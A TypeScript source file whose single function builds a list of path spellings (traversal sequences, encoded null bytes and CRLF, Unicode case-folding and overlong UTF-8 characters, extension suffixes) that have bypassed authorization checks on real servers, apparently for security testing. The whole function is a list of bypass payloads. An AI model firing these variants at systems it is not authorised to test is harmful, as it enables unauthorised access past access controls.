const percentEncode = (text: string) =>
  [...text].map((one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
const lastSegment = /[^/]+$/

/** Returns spellings of a path by which authorization checks of real servers were bypassed. */
export function listPathVariants(path: string): string[] {
  const last = lastSegment.exec(path)?.[0] ?? ''
  const withLast = (text: string) => path.replace(lastSegment, text)
  return [
    path,
    path.toUpperCase(),
    path.replace('/api', '/aPi'),
    ...'/ // /. /..;/ /%2e %2f %5c \\ . .. .json .css ;x ;.css %3bx'.split(' ').map((end) => path + end),
    ...'%00 %00.css %0a %0d%0a %20 + %09 % %ff ? ?? ?.css %3f #x %23 ~ *'.split(' ').map((end) => path + end),
    `/${path}`,
    `//a.example${path}`,
    `/.${path}`,
    `/x/..${path}`,
    `/%2e%2e${path}`,
    `/..%2f${path.slice(1)}`,
    `/..;${path}`,
    ...'/api// /api/./ /api/x/../ /api/%2e/ /api%2f /api%252f /api\\ /api;/ /api%00/ /home/../api/ /media/..%2fapi/'
      .split(' ')
      .map((start) => path.replace('/api/', start)),
    withLast(percentEncode(last)),
    withLast(percentEncode(percentEncode(last))),
    // Characters that change case to k, i or s; an overlong UTF-8 encoding; a full-width letter.
    path.replace(/k/, '%e2%84%aa'),
    path.replace(/i(?!d)/, '%c4%b0'),
    path.replace(/s/, '%c5%bf'),
    path.replace(/a/, '%c1%a1'),
    path.replace(/a/, '%ef%bd%81'),
    `http://127.0.0.1${path}`,
    `/healthz/..${path}`,
    `/healthz?${path}`,
  ]
}
